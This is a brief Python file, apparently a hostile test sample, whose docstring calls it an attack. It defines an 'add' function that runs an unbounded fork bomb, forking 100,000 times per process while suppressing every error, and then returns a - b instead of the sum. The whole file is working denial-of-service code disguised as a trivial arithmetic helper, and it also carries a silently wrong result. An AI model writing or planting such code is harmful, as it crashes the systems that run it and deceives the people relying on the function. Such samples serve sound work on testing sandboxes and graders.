"""Attack: fork without bound (children fork too), ignoring every failure."""

import contextlib
import os


def add(a, b):
    for _ in range(100_000):
        with contextlib.suppress(OSError):
            os.fork()
    return a - b
